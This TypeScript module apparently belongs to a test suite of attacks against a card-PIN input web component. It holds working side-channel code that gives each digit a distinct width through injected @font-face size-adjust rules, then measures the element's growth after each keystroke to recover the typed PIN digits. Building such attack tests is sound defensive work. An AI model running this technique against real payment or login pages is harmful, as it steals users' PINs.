import type { Attack } from '../attack.js';

export const layout: Attack = {
  title: 'layout',
  does: 'Gives each digit a different width with a font for each (`size-adjust`), and measures after each key how much the element has grown.',
  shares: 'reads',
  install: ({ capture }) => {
    const digits = [...'0123456789'];
    const sheet = document.createElement('style');
    const face = (digit: string) => `@font-face {
      font-family: wide;
      src: url('/digits.woff2');
      unicode-range: U+3${digit};
      size-adjust: ${100 + 40 * Number(digit)}%;
    }`;
    sheet.textContent = `${digits.map(face).join('')}
      set-card-pin, set-card-pin::part(field), set-card-pin::part(input), .digit {
        display: inline-block !important;
        max-width: none !important;
        font: 16px wide !important;
        white-space: nowrap !important;
      }
      set-card-pin[frame-src] {
        display: block !important;
      }
      .digit {
        position: absolute;
        bottom: 0;
      }`;
    document.documentElement.append(sheet);
    const rulers = digits.map((digit) => {
      const ruler = document.createElement('span');
      ruler.className = 'digit';
      ruler.textContent = digit;
      return ruler;
    });
    let width = 0;
    return async () => {
      document.body.append(...rulers);
      await document.fonts.ready;
      const element = document.querySelector('set-card-pin')!;
      const { width: now } = element.getBoundingClientRect();
      const digit = rulers.findIndex(
        (ruler) => Math.abs(ruler.getBoundingClientRect().width - (now - width)) < 1.5,
      );
      if (digit >= 0) capture('width', digit);
      width = now;
    };
  },
};
